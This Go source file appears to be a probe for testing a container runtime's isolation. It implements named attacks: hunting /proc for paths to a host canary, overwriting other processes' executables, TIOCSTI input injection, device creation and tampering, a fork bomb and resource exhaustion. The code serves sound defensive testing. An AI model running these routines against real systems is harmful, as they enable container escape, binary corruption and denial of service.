package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// parts are those of single attacks, by name.
var parts = map[string]func(args []string) (string, error){
	"sleep":  func([]string) (string, error) { time.Sleep(time.Hour); return "", nil },
	"say":    func(args []string) (string, error) { return strings.Join(args, " "), nil },
	"id":     id,
	"status": func(args []string) (string, error) { return field("/proc/self/status", args[0]) },
	"cat": func(args []string) (string, error) {
		text, err := os.ReadFile(args[0])
		return strings.TrimSpace(string(text)), err
	},
	"write":     func(args []string) (string, error) { return "written", writeExisting(args[0], args[1]) },
	"cwd":       func([]string) (string, error) { return os.Readlink("/proc/self/cwd") },
	"env":       func([]string) (string, error) { return strings.Join(os.Environ(), "\n"), nil },
	"fds":       func([]string) (string, error) { return openFiles() },
	"mounted":   func(args []string) (string, error) { return mounted(args[0]) },
	"device":    device,
	"type":      typeIn,
	"hunt":      hunt,
	"overwrite": overwrite,
	"climb":     climbing,
	"deepen":    deepen,
	"endless":   endless,
	"spoil":     spoil,
	"hear":      hear,
	"use":       use,
	"modes":     modes,
	"behind":    behind,
	"list": func(args []string) (string, error) {
		names, err := filepath.Glob(args[0])
		return strings.Join(names, " "), err
	},
	"forks": forks,
}

func id([]string) (string, error) {
	groups, err := os.Getgroups()
	return fmt.Sprint(os.Getuid(), os.Getgid(), groups), err
}

// field is the value of a line "name: value" of a file.
func field(path, name string) (string, error) {
	text, err := os.ReadFile(path)
	for line := range strings.Lines(string(text)) {
		if value, ok := strings.CutPrefix(line, name+":"); ok {
			return strings.TrimSpace(value), nil
		}
	}
	return "", err
}

func writeExisting(path, text string) error {
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteString(text)
	return err
}

// openFiles are the descriptors, but for that of the list itself and those of
// Go's poller.
func openFiles() (string, error) {
	entries, err := os.ReadDir("/proc/self/fd")
	var list []string
	for _, e := range entries {
		link, _ := os.Readlink("/proc/self/fd/" + e.Name())
		if link != "" && !strings.HasSuffix(link, "/fd") && !strings.HasPrefix(link, "anon_inode:[event") {
			list = append(list, e.Name())
		}
	}
	return strings.Join(list, " "), err
}

// mounted is the type of the topmost mount on a path, and its options.
func mounted(path string) (string, error) {
	text, err := os.ReadFile("/proc/self/mountinfo")
	found := "nothing"
	for line := range strings.Lines(string(text)) {
		words := strings.Fields(line)
		if words[4] == path {
			found = words[slices.Index(words, "-")+1] + " " + words[5]
		}
	}
	return found, err
}

// device opens a device by number, with a file of its own: TYPE MAJOR MINOR.
func device(args []string) (string, error) {
	kind := uint32(unix.S_IFCHR)
	if args[0] == "b" {
		kind = unix.S_IFBLK
	}
	major, _ := strconv.ParseUint(args[1], 10, 32)
	minor, _ := strconv.ParseUint(args[2], 10, 32)
	const path = "/tmp/device"
	os.Remove(path) // there may be none
	if err := unix.Mknod(path, kind|0o600, int(unix.Mkdev(uint32(major), uint32(minor)))); err != nil {
		return "", fmt.Errorf("mknod: %w", err)
	}
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return "", fmt.Errorf("open: %w", err)
	}
	return "opened", unix.Close(fd)
}

// typeIn lets the terminal that standard input is have a character typed.
func typeIn([]string) (string, error) {
	letter := byte('x')
	return "typed", ioctlPointer(0, unix.TIOCSTI, &letter)
}

// deepen makes a directory in a directory in a directory: WHERE, HOW MANY, HOW
// LONG their names are. Soon no path reaches the last.
func deepen(args []string) (string, error) {
	n, err1 := strconv.Atoi(args[1])
	length, err2 := strconv.Atoi(args[2])
	if err := errors.Join(err1, err2, os.Chdir(args[0])); err != nil {
		return "", err
	}
	name := strings.Repeat("x", length)
	for range n {
		if err := errors.Join(unix.Mkdir(name, 0o755), unix.Chdir(name)); err != nil {
			return "", err
		}
	}
	return "done", nil
}

// endless makes the file that is its standard output 8 TB long, and, as soon as
// there is something in /tmp/lease, has a lease on it.
func endless([]string) (string, error) {
	os.MkdirAll("/tmp", 0o755) // an image may have none
	err := errors.Join(os.WriteFile("/tmp/lease", nil, 0o644), writeTo(1, "first\n"), unix.Ftruncate(1, 8<<40), writeTo(1, "last\n"), unix.Ftruncate(1, 9<<40))
	for err == nil {
		if s, _ := os.Stat("/tmp/lease"); s != nil && s.Size() > 0 {
			_, err = unix.FcntlInt(1, unix.F_SETLEASE, unix.F_WRLCK)
			time.Sleep(time.Hour)
		}
		time.Sleep(time.Millisecond)
	}
	return "", err
}

func writeTo(fd int, text string) error {
	_, err := unix.Write(fd, []byte(text))
	return err
}

// hunt looks into every new process for as long as there is no file /tmp/stop:
// for a root, a working directory or a descriptor from which the host's files
// can be reached, and for a program that can be written to. It prints what it
// catches into /tmp/caught, and how many it saw in time: before they executed the
// container's program. With "memory" it
// looks for that of the runtime, too: who can write to it has all that it has.
func hunt(args []string) (string, error) {
	caught := map[string]bool{}
	known, _ := filepath.Glob("/proc/[0-9]*")
	os.WriteFile("/tmp/ready", []byte("ready"), 0o644)
	looks, seen, early := 0, map[string]bool{}, map[string]bool{}
	for {
		if _, err := os.Stat("/tmp/stop"); err == nil {
			break
		}
		dirs, _ := os.ReadDir("/proc")
		for _, d := range dirs {
			dir := "/proc/" + d.Name()
			if d.Name()[0] > '9' || slices.Contains(known, dir) {
				continue
			}
			seen[dir] = true
			for range 20 {
				looks++
				if entering(dir) {
					early[dir] = true
				}
				look(dir, caught)
				if slices.Contains(args, "memory") {
					lookAtMemory(dir, caught)
				}
			}
		}
	}
	var list []string
	for c := range caught {
		list = append(list, c)
	}
	slices.Sort(list)
	list = append(list, fmt.Sprintf("%d of %d processes seen before their execve, %d looks", len(early), len(seen), looks))
	return "", os.WriteFile("/tmp/caught", []byte(strings.Join(list, "\n")+"\n"), 0o644)
}

// entering says whether a process does not execute the container's program yet.
// Without capabilities, we may not even know what else it executes.
func entering(dir string) bool {
	link, err := os.Readlink(dir + "/exe")
	return err == nil && link != "/probe" || errors.Is(err, unix.EACCES) || errors.Is(err, unix.EPERM)
}

// look looks into one process.
func look(dir string, caught map[string]bool) {
	for _, name := range []string{"root", "cwd"} {
		if leadsOut(dir + "/" + name) {
			caught[name] = true
		}
	}
	if f, err := os.OpenFile(dir+"/exe", os.O_WRONLY, 0); err == nil {
		if link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(int(f.Fd()))); !strings.HasSuffix(link, "/probe") || !strings.HasPrefix(link, "/probe") {
			caught["exe "+link] = true
		}
		f.Close()
	}
	names, _ := os.ReadDir(dir + "/fd")
	for _, n := range names {
		path := dir + "/fd/" + n.Name()
		link, _ := os.Readlink(path)
		if leadsOut(path) {
			caught["descriptor of "+link] = true
		}
	}
}

// lookAtMemory looks for the memory of a process that does not execute the
// container's program yet.
func lookAtMemory(dir string, caught map[string]bool) {
	f, err := os.OpenFile(dir+"/mem", os.O_RDWR, 0)
	if err != nil {
		return
	}
	defer f.Close()
	if link, err := os.Readlink(dir + "/exe"); err == nil && link != "/probe" {
		caught["memory of "+link] = true
	}
}

// leadsOut says whether the host's files can be reached from a directory, by
// going up or down.
func leadsOut(path string) bool {
	fd, err := unix.Open(path, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false
	}
	defer unix.Close(fd)
	var s unix.Stat_t
	return unix.Fstatat(fd, strings.Repeat("../", 30)+"srv/canary/secret", &s, 0) == nil || unix.Fstatat(fd, "srv/canary/secret", &s, 0) == nil
}

// overwrite tries to write to the programs of all other processes, and of its
// own, until there is a file /tmp/stop. It says what it could open. A program
// that is executed cannot be opened for writing (ETXTBSY): so a descriptor is
// taken for reading, and opened again until nobody executes it.
func overwrite([]string) (string, error) {
	own, _ := os.Readlink("/proc/self/exe")
	os.WriteFile("/tmp/ready", []byte("ready"), 0o644)
	caught := map[string]bool{}
	held := map[string]int{}
	tries := 0
	for {
		if _, err := os.Stat("/tmp/stop"); err == nil {
			break
		}
		programs, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range programs {
			var s unix.Stat_t
			fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if link, _ := os.Readlink(exe); unix.Fstat(fd, &s) != nil || link == own {
				unix.Close(fd)
				continue
			}
			key := fmt.Sprint(s.Dev, s.Ino)
			if _, ok := held[key]; ok {
				unix.Close(fd)
				continue
			}
			held[key] = fd
		}
		for _, fd := range held {
			tries++
			path := fmt.Sprintf("/proc/self/fd/%d", fd)
			link, _ := os.Readlink(path)
			f, err := os.OpenFile(path, os.O_WRONLY, 0)
			if err == nil {
				f.WriteString("#!/owned\n")
				f.Close()
				caught["overwritten "+link] = true
			} else {
				caught["held "+link] = true
			}
		}
	}
	list := []string{fmt.Sprintf("%d tries", tries)}
	for c := range caught {
		list = append(list, c)
	}
	slices.Sort(list)
	return "", os.WriteFile("/tmp/caught", []byte(strings.Join(list, "\n")+"\n"), 0o644)
}

// spoil tries to change mode, owner and times of the files that its arguments name, of
// all devices in /dev, and of its own standard files, by every path that leads there.
// It says what it found.
func spoil(args []string) (string, error) {
	devices, _ := filepath.Glob("/dev/*")
	for fd := range 3 {
		args = append(args, fmt.Sprintf("/proc/self/fd/%d", fd))
	}
	var found []string
	for _, path := range append(args, devices...) {
		var s unix.Stat_t
		if unix.Stat(path, &s) != nil || s.Mode&unix.S_IFMT != unix.S_IFCHR {
			continue
		}
		found = append(found, path)
		os.Chmod(path, 0o604)
		os.Chtimes(path, time.Unix(1, 0), time.Unix(2, 0))
		unix.UtimesNano(path, nil) // for which the right to write is enough
		os.Chown(path, 7, 8)
	}
	for fd := range 3 { // the descriptor itself: by another mount than any path's
		unix.Fchmod(fd, 0o604)
		unix.Futimes(fd, []unix.Timeval{{Sec: 1}, {Sec: 2}})
		unix.Fchown(fd, 7, 8)
	}
	return strings.Join(found, " "), nil
}

// hear listens for uses of a file for half a second, and says how many bytes of events
// there were.
func hear(args []string) (string, error) {
	fd, err := unix.InotifyInit1(unix.IN_NONBLOCK | unix.IN_CLOEXEC)
	if err != nil {
		return "", err
	}
	if _, err = unix.InotifyAddWatch(fd, args[0], unix.IN_ALL_EVENTS); err != nil {
		return "", err
	}
	time.Sleep(500 * time.Millisecond)
	n, err := unix.Read(fd, make([]byte, 1<<16))
	if errors.Is(err, unix.EAGAIN) {
		return "nothing", nil
	}
	return fmt.Sprint(n), err
}

// use writes to files, and reads them, as programs do with /dev/null.
func use(args []string) (string, error) {
	for _, path := range args {
		w, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o666)
		if err != nil {
			return "", err
		}
		if _, err := w.WriteString("text"); err != nil {
			return "", err
		}
		w.Close()
		if text, err := os.ReadFile(path); len(text) > 0 || err != nil {
			return "", fmt.Errorf("%s holds %d bytes, %v", path, len(text), err)
		}
	}
	return "used", nil
}

// modes are those of all files, but for what the kernel shows, and what changes.
func modes([]string) (string, error) {
	var list []string
	err := filepath.WalkDir("/", func(path string, d os.DirEntry, err error) error {
		if path == "/proc" || path == "/sys" || path == "/dev/pts" {
			return filepath.SkipDir
		}
		if err != nil {
			list = append(list, path+" "+err.Error())
			return nil
		}
		info, err := d.Info()
		if err == nil {
			list = append(list, fmt.Sprint(path, " ", info.Mode()))
		}
		return err
	})
	return strings.Join(list, "\n"), err
}

// behind leaves a process behind that has the same standard files, and ends.
func behind([]string) (string, error) {
	cmd := exec.Command("/proc/self/exe", "sleep")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	return "left", cmd.Start()
}

// forks makes processes that end at once, for ever. It ignores SIGUSR1, and so do they:
// what is ignored stays so over execve.
func forks([]string) (string, error) {
	signal.Ignore(unix.SIGUSR1)
	os.WriteFile("/tmp/ready", []byte("ready"), 0o644)
	for {
		exec.Command("/proc/self/exe", "say").Run() // EAGAIN: as many as there are numbers for
	}
}
